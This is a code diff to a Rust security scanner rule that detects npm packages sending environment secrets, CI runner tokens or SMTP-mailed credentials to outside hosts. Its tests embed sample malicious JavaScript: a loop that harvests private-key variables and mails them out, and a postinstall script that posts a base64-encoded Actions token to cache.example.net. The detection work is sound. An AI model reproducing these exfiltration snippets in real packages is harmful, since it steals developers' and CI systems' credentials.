@@ -15,8 +15,9 @@ diligence_finding::declare_rule! {
     /// ## What it detects
     /// A value-flow path from the environment to a network or DNS send: `process.env` as a whole (or its
     /// keys/entries), through variables, properties, encoders, function arguments, returns, callbacks and the
-    /// package's own modules, into an HTTP body, URL or header, a socket or WebSocket write, a beacon or a DNS
-    /// name (critical); one secret-named variable (`NPM_TOKEN`, `AWS_SECRET_ACCESS_KEY`) sent is medium, or
+    /// package's own modules, into an HTTP body, URL or header, a socket or WebSocket write, a beacon, a mail
+    /// sent through an SMTP transport the code creates (`nodemailer.createTransport({ host }).sendMail(…)`,
+    /// the destination being the SMTP host) or a DNS name (critical); one secret-named variable (`NPM_TOKEN`, `AWS_SECRET_ACCESS_KEY`) sent is medium, or
     /// critical into a DNS name or an exfiltration-style endpoint. Without a complete path: `process.env`
     /// serialised as a whole (`JSON.stringify(process.env)`; `{...process.env}` stored next to host or user
     /// details; `Object.entries(process.env)` / `for…in` iteration filtered by secret-looking names such as
@@ -32,9 +33,13 @@ diligence_finding::declare_rule! {
     /// ## Known false positives
     /// dotenv-style loaders iterate `process.env` without a network sink (not reported); spawning a child with
     /// `{ env: process.env }` is recognised and skipped; crash reporters that attach the whole environment are
-    /// reported, on purpose. Package managers send npm configuration taken from the environment
+    /// reported, on purpose. A mailer configured from the environment (`auth: { pass: process.env.SMTP_PASS }`)
+    /// is not a path: the transport's options are where it connects, not what it sends. Package managers send npm configuration taken from the environment
     /// (`npm_config_*`) to the package registry: medium. API clients send their own token (`GITHUB_TOKEN` to the API they wrap): one
-    /// secret variable on a path is medium, a weak signal on its own; low in a cloud credential provider whose only
+    /// secret variable on a path is medium, a weak signal on its own (high when it is a CI runner's job token —
+    /// `GITHUB_TOKEN`, `ACTIONS_RUNTIME_TOKEN`, the OIDC request token, `CI_JOB_TOKEN` — sent to a constant host that
+    /// is not the CI provider's own, critical from install-time code: a tool that posts the runner's token to its own
+    /// SaaS is reported); low in a cloud credential provider whose only
     /// destination is the instance-metadata endpoint (`AWS_CONTAINER_CREDENTIALS_RELATIVE_URI` is its path there).
     pub static ENV_EXFILTRATION = { id: "code/env-exfiltration", severity: Severity::Critical };
 }
@@ -98,6 +103,22 @@ fn paths_all(p: &PackageFacts) -> Vec<CodeFinding> {
                 // registry is how package managers authenticate, not exfiltration.
                 SourceKind::EnvAll if package_registry(path.dest.as_deref()) => Severity::Medium,
                 SourceKind::EnvAll => Severity::Critical,
+                // Each variable whose name matches a secret filter, read in the loop that
+                // filters them: the secrets harvested one by one, the whole set sent.
+                SourceKind::EnvSecret if harvested(p, path) => Severity::Critical,
+                // A CI runner's own token sent to a constant host that is not the CI
+                // provider's: the token is good for the repository, not for anyone else;
+                // from an install script (it runs inside the runner) it is the attack itself.
+                SourceKind::EnvSecret
+                    if ci_token(&path.from.what)
+                        && path.dest.as_deref().is_some_and(|d| !ci_provider_host(d)) =>
+                {
+                    if p.file(&path.to.file).is_some_and(|f| f.install_time) {
+                        Severity::Critical
+                    } else {
+                        Severity::High
+                    }
+                }
                 _ if path.sink == SinkKind::Dns || exfil_destination(path.dest.as_deref()) => {
                     Severity::Critical
                 }
@@ -118,6 +139,67 @@ fn paths_all(p: &PackageFacts) -> Vec<CodeFinding> {
             )
         })
         .collect()
+}
+
+/// True when the path's source is a computed `process.env[name]` read in a function that
+/// filters variable names for secrets (`/PRIVATE_?KEY|TOKEN/.test(k)`): the environment
+/// iterated and every secret-named variable taken, not one variable an API client needs.
+fn harvested(p: &PackageFacts, path: &crate::flow::FlowPath) -> bool {
+    if path.from.what != "process.env[…]" {
+        return false;
+    }
+    let Some(f) = p.file(&path.from.file) else {
+        return false;
+    };
+    f.signals
+        .iter()
+        .filter(|s| s.line == path.from.line)
+        .any(|s| f.has_in(Kind::EnvSecretFilter, s.func) && f.has_in(Kind::EnvIterate, s.func))
+}
+
+/// True when `what` (a source detail, `process.env.NAME`) names a CI runner's job token: the
+/// GitHub Actions token, runtime and OIDC request tokens, GitLab's job token, Azure
+/// Pipelines' access token, Buildkite's agent token.
+fn ci_token(what: &str) -> bool {
+    let name = what.rsplit('.').next().unwrap_or(what);
+    matches!(
+        name,
+        "GITHUB_TOKEN"
+            | "INPUT_GITHUB_TOKEN"
+            | "ACTIONS_RUNTIME_TOKEN"
+            | "ACTIONS_ID_TOKEN_REQUEST_TOKEN"
+            | "CI_JOB_TOKEN"
+            | "CI_JOB_JWT"
+            | "SYSTEM_ACCESSTOKEN"
+            | "BUILDKITE_AGENT_ACCESS_TOKEN"
+    )
+}
+
+/// True when `dest` (a URL or host) is a CI provider's own service, where its tokens are
+/// meant to go: GitHub (`api.github.com`, `*.actions.githubusercontent.com`, the artifact
+/// and cache storage on `*.blob.core.windows.net`), GitLab, Azure DevOps, Buildkite.
+fn ci_provider_host(dest: &str) -> bool {
+    let host = dest
+        .split("://")
+        .nth(1)
+        .unwrap_or(dest)
+        .split(['/', ':', '?'])
+        .next()
+        .unwrap_or("")
+        .to_ascii_lowercase();
+    let under = |d: &str| host == d || host.ends_with(&format!(".{d}"));
+    [
+        "github.com",
+        "githubusercontent.com",
+        "ghcr.io",
+        "blob.core.windows.net",
+        "gitlab.com",
+        "dev.azure.com",
+        "visualstudio.com",
+        "buildkite.com",
+    ]
+    .iter()
+    .any(|d| under(d))
 }
 
 /// True when `dest` is a package registry (npm, yarn, GitHub Packages, the npm mirrors).
@@ -184,6 +266,85 @@ fn report(
 #[cfg(test)]
 mod tests {
     use crate::rules::test_util::{PJ, hits, scan};
+
+    /// Secret-named variables harvested at load and mailed through an SMTP transport with
+    /// hard-coded credentials (the trusted-service exfiltration of the 2025 Solana stealers).
+    #[test]
+    fn positive_mailed_through_smtp() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "index.js",
+                "const os = require('os');\nfunction collect() {\n  const found = [];\n  for (const k of Object.keys(process.env)) {\n    if (/PRIVATE_?KEY|MNEMONIC/i.test(k)) found.push(k + '=' + process.env[k]);\n  }\n  return found;\n}\nsetImmediate(() => {\n  const nodemailer = require('nodemailer');\n  const t = nodemailer.createTransport({ host: 'smtp.mail.example.com', port: 465, secure: true, auth: { user: 'a@example.com', pass: 'x' } });\n  t.sendMail({ from: 'a@example.com', to: 'b@example.com', subject: os.hostname(), text: collect().join('\\n') }, () => {});\n});\n",
+            ),
+        ]);
+        assert_eq!(
+            hits(&s, "code/env-exfiltration"),
+            vec![("index.js".to_string(), 4), ("index.js".to_string(), 12)]
+        );
+        assert_eq!(s.verdict, crate::Verdict::Malicious);
+    }
+
+    /// A CI-gated install script posting the runner's tokens to a host that is not GitHub.
+    #[test]
+    fn positive_ci_token_to_foreign_host() {
+        let s = scan(&[
+            (
+                "package.json",
+                "{\"name\":\"t\",\"version\":\"1.0.0\",\"scripts\":{\"postinstall\":\"node index.js\"}}",
+            ),
+            (
+                "index.js",
+                "const https = require('https');\nif (process.env.GITHUB_ACTIONS === 'true') {\n  const body = Buffer.from(JSON.stringify({ t: process.env.ACTIONS_RUNTIME_TOKEN })).toString('base64');\n  https.request({ hostname: 'cache.example.net', method: 'POST' }, () => {}).end(body);\n}\n",
+            ),
+        ]);
+        let sev: Vec<_> = s
+            .findings
+            .iter()
+            .filter(|f| f.rule == "code/env-exfiltration")
+            .map(|f| (f.line, f.severity))
+            .collect();
+        assert_eq!(sev, vec![(4, diligence_finding::Severity::Critical)]);
+        assert_eq!(s.verdict, crate::Verdict::Malicious);
+    }
+
+    /// The benign look-alike: a release helper sends `GITHUB_TOKEN` to GitHub's own API.
+    #[test]
+    fn negative_ci_token_to_github() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "index.js",
+                "const https = require('https');\nexports.release = function (tag) {\n  const req = https.request({ hostname: 'api.github.com', path: '/repos/o/r/releases', method: 'POST', headers: { authorization: 'token ' + process.env.GITHUB_TOKEN } });\n  req.end(JSON.stringify({ tag_name: tag }));\n};\n",
+            ),
+        ]);
+        let sev: Vec<_> = s
+            .findings
+            .iter()
+            .filter(|f| f.rule == "code/env-exfiltration")
+            .map(|f| f.severity)
+            .collect();
+        assert!(
+            sev.iter()
+                .all(|s| *s <= diligence_finding::Severity::Medium)
+        );
+        assert_ne!(s.verdict, crate::Verdict::Malicious);
+    }
+
+    /// The benign look-alike: an app's mailer takes its SMTP password from the environment
+    /// and sends the message it is given.
+    #[test]
+    fn negative_mailer_configured_from_env() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "mail.js",
+                "const nodemailer = require('nodemailer');\nconst t = nodemailer.createTransport({ host: 'smtp.example.com', auth: { user: process.env.SMTP_USER, pass: process.env.SMTP_PASS } });\nexports.send = function (to, subject, text) {\n  return t.sendMail({ from: 'noreply@example.com', to, subject, text });\n};\n",
+            ),
+        ]);
+        assert!(hits(&s, "code/env-exfiltration").is_empty());
+        assert_eq!(s.verdict, crate::Verdict::Clean);
+    }
 
     #[test]
     fn positive() {
